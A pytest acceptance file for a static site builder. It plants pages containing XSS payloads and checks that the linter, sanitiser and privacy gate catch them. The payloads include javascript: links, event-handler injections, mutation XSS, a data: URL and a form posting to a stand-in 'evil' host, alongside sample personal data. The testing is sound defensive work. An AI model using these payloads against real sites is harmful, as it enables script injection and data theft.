"""Acceptance: pages written as a hostile (or careless) contributor would
write them, one page per kind of attack, planted in a copy of the project.

For each page: `make check` names the file, or the build's sanitiser or
privacy gate fails naming it (both, where both can see it); and the page as
the build would publish it runs nothing in Chromium: no dialog opens and no
request leaves the site. The copy is built once, with the gates reporting
instead of failing, so the refused pages can still be opened.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from common.personal_data import PublicContacts
from common.problem import Problem
from postbuild import privacy_gate
from render.core import NOTICE
from sitebuild.build import BuildError, build
from support.checks import run_check
from support.project import PREFIX_URL, build_copy_past_gates, copy_project
from support.site import BuiltSite, serve

EVIL = "https://evil.example.org"
# name → (front matter, text, words `make check` says, words the build says);
# None where that side cannot see the fault.
ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
    "attribute-list-href": (
        "",
        '[Урок.РФ](https://урок.рф/){: href="javascript:alert(document.domain)" }',
        "ссылка javascript:",
        "javascript: link",
    ),
    "escaped-backtick": ("", r"\`<img src=x onerror=alert(1)>\`", "атрибут onerror=", "onerror="),
    "indented-fence": (
        "",
        "    ```\n<script>alert(1)</script>\n    ```",
        "<script> в тексте",
        "<script>",
    ),
    "iframe-srcdoc": (
        "",
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        "<iframe> встраивает",
        "<iframe>",
    ),
    "description-breakout": (
        "description: '\"><script>alert(1)</script><meta x=\"'",
        "Текст.",
        "шапка, «description»",
        None,  # the templates escape it: nothing breaks out
    ),
    "title-breakout": (
        "title: '</title><script>alert(1)</script>'",
        "Текст.",
        "шапка, «title»",
        None,
    ),
    "generator-comment": (
        "",
        NOTICE + "\n<script>alert(1)</script>",
        "<script> в тексте",
        "<script>",
    ),
    "object": ("", f'<object data="{EVIL}/x.swf"></object>', "<object> встраивает", "<object>"),
    "embed": ("", f'<embed src="{EVIL}/x.swf">', "<embed> встраивает", "<embed>"),
    "meta-refresh": (
        "",
        f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
        "<meta> в тексте страницы не допускается",
        "<meta>",
    ),
    "base": (
        "",
        f'<base href="{EVIL}/">\n\n[Положение](../policy.md)',
        "<base> в тексте",
        "<base>",
    ),
    "form": (
        "",
        f'<form action="{EVIL}/steal"><input name="q"><button>OK</button></form>',
        "<form> в тексте",
        "<form>",
    ),
    "style-element": (
        "",
        f"<style>body{{background:url({EVIL}/t.png)}}</style>",
        "<style> в тексте",
        "<style>",
    ),
    "style-attribute": (
        "",
        f'<p style="background:url({EVIL}/t.png)">Текст</p>',
        "атрибут style=",
        "style=",
    ),
    "external-image": (
        "",
        f"![Фото]({EVIL}/t.png)",
        "картинка с другого сайта",
        "image from another site",
    ),
    "protocol-relative-image": (
        "",
        '<img src="//evil.example.org/t.png" alt="Фото">',
        "картинка с другого сайта",
        "image from another site",
    ),
    "image-srcset": (
        "",
        f'<img src="../../assets/images/favicon.svg" srcset="{EVIL}/t.png 2x" alt="Знак">',
        "атрибут srcset=",
        "srcset=",
    ),
    "external-stylesheet": (
        "",
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        "<link> в тексте",
        "<link>",
    ),
    "svg-use": ("", f'<svg><use href="{EVIL}/s.svg#x"/></svg>', "<use> в тексте", "<use>"),
    "video": ("", f'<video src="{EVIL}/v.mp4" autoplay></video>', "<video> в тексте", "<video>"),
    "entity-javascript": (
        "",
        '<a href="jav&#x09;ascript:alert(1)">Инфоурок</a>',
        "ссылка javascript:",
        "javascript: link",
    ),
    "vbscript": (
        "",
        '<a href="vbscript:msgbox(1)">Ссылка</a>',
        "ссылка vbscript:",
        "vbscript: link",
    ),
    "data-url": (
        "",
        "[Открыть](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "адрес data:",
        "data: address",
    ),
    "svg-script": ("", "<svg><script>alert(1)</script></svg>", "<script> в тексте", "<script>"),
    "details-ontoggle": (
        "",
        '<details open ontoggle="alert(1)"><summary>Подробнее</summary>Текст</details>',
        "атрибут ontoggle=",
        "ontoggle=",
    ),
    "markdown-in-html-onclick": (
        "",
        '<div markdown="1" onclick="alert(1)">**Текст**</div>',
        "атрибут onclick=",
        "onclick=",
    ),
    "mutation-xss": (
        "",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "атрибут onerror=",
        "onerror=",
    ),
    "content-marker-forgery": (
        "",
        f'<!--/site:content--><form action="{EVIL}/"><input name="q"></form><!--site:content-->',
        "<form> в тексте",
        "content marker",
    ),
    # Personal data: the one detector in `make check` and in the privacy gate.
    "phone-with-nbsp": (
        "",
        "Звоните: 8&nbsp;928&nbsp;123&nbsp;45&nbsp;67.",
        "номер телефона",
        "phone",
    ),
    # Split by Markdown, the number is whole only in the built page (and in
    # its search entry and its PDF).
    "phone-split-by-bold": ("pdf: true", "Звоните: 8 928 **123 45 67**.", None, "phone"),
    "whatsapp-link": ("", "[Написать](https://wa.me/79281234567)", "номер телефона", "phone"),
    "tel-link": ("", "[Позвонить](tel:+79281234567)", "номер телефона", "phone"),
    "email-entities": ("", "Почта: ivanova&#64;mail&#46;ru", "адрес электронной почты", "e-mail"),
    "email-split-by-tag": ("", "Почта: ivanova<span>@</span>mail.ru", None, "e-mail"),
    "snils": ("", "СНИЛС ученика: 112-233-445 95", "СНИЛС", "SNILS"),
    "passport": ("", "Паспорт: 45 10 123456", "паспорта", "passport"),
    "pupil-birth-date": (
        "",
        "Иванов Иван Иванович, 12.03.2014 г. р., 5 «А» класс.",
        "имя с датой рождения",
        "name with a birth date",
    ),
}
SECRETS = ("928 123 45 67", "9281234567", "ivanova", "112-233-445", "123456", "Иванов")


def planted_path(name: str) -> str:
    return f"docs/ru/planted/{name}.md"


def plant(project: Path) -> None:
    for name, (front, text, _, _) in ATTACKS.items():
        head = f"---\n{front}\n---\n\n" if front else ""
        path = project / planted_path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{head}# Страница {name}\n\n{text}\n", "utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, BuiltSite, list[Problem]]:
    return build_copy_past_gates(tmp_path_factory, "hostile", plant)


@pytest.fixture(scope="module")
def check_report(hostile: tuple[Path, BuiltSite, list[Problem]]) -> list[str]:
    result = run_check("docs", cwd=hostile[0])
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    return result.stdout.splitlines()


@pytest.fixture(scope="module")
def hostile_served(hostile: tuple[Path, BuiltSite, list[Problem]]) -> Iterator[str]:
    with serve(hostile[1]) as url:
        yield url


@pytest.mark.parametrize("name", ATTACKS)
def test_check_or_build_names_the_planted_page(
    name: str, check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    _, _, check_words, build_words = ATTACKS[name]
    said_by_check = [line for line in check_report if line.startswith(planted_path(name) + ":")]
    said_by_build = [str(p) for p in hostile[2] if p.source == planted_path(name)]
    assert said_by_check or said_by_build, f"nothing names {planted_path(name)}"
    if check_words:
        assert any(check_words in line for line in said_by_check), said_by_check
        assert all(re.match(rf"{re.escape(planted_path(name))}:\d+: ", x) for x in said_by_check)
    if build_words:
        assert any(build_words in line for line in said_by_build), (said_by_build, hostile[2])


def test_only_planted_pages_are_named(
    check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    planted = {planted_path(name) for name in ATTACKS}
    assert {line.split(":")[0] for line in check_report} <= planted
    assert {problem.source for problem in hostile[2]} <= planted


def test_no_report_repeats_a_personal_datum(
    check_report: list[str], hostile: tuple[Path, BuiltSite, list[Problem]]
) -> None:
    told = "\n".join([*check_report, *map(str, hostile[2])])
    for secret in SECRETS:
        assert secret not in told


@pytest.mark.parametrize("name", ATTACKS)
def test_planted_page_runs_nothing_in_chromium(
    name: str, browser: Browser, hostile_served: str
) -> None:
    context = browser.new_context()
    tab = context.new_page()
    dialogs: list[str] = []
    elsewhere: list[str] = []
    site = urlsplit(hostile_served).netloc

    def route(route_) -> None:  # type: ignore[no-untyped-def]
        url = urlsplit(route_.request.url)
        # chrome:// and chrome-extension:// are the browser's own (its PDF viewer).
        if url.netloc == site or url.scheme not in ("http", "https", "ws", "wss", "ftp"):
            route_.continue_()
        else:
            elsewhere.append(route_.request.url)
            route_.abort()

    context.route("**/*", route)
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.goto(f"{hostile_served}planted/{name}/")
    # What a reader would do: move over and click the text; a link to a
    # script runs only when clicked.
    tab.evaluate(
        """selector => document.querySelectorAll("article *").forEach(el => {
             el.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
             if (el.matches(selector)) el.click();
           })""",
        "a:not([href^='http']):not([href^='.']):not([href^='#']):not([href$='.pdf'])",
    )
    tab.wait_for_timeout(300)
    context.close()
    assert not dialogs, f"a dialog opened: {dialogs}"
    assert not elsewhere, f"requests left the site: {elsewhere}"


def test_privacy_gate_reads_search_index_and_pdf(
    hostile: tuple[Path, BuiltSite, list[Problem]],
) -> None:
    leaks = privacy_gate.scan(hostile[1].root, PublicContacts())
    split_phone = "ru/planted/phone-split-by-bold"
    where = {leak.path for leak in leaks if leak.found.kind.value == "phone number"}
    assert "search/search_index.json" in where
    assert any(path.startswith(split_phone.removeprefix("ru/")) for path in where)
    assert any(path.endswith(".pdf") for path in where), where


def test_the_build_fails_on_a_planted_page_naming_its_source(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "ru" / "policy.md"
    lines = page.read_text("utf-8").splitlines()
    page.write_text("\n".join([*lines, "", "<script>alert(1)</script>", ""]), "utf-8")
    with pytest.raises(BuildError) as failure:
        build(tmp_path / "site", site_url=PREFIX_URL, project=project)
    message = str(failure.value)
    assert f"docs/ru/policy.md:{len(lines) + 2}: unsafe HTML: <script>" in message, message
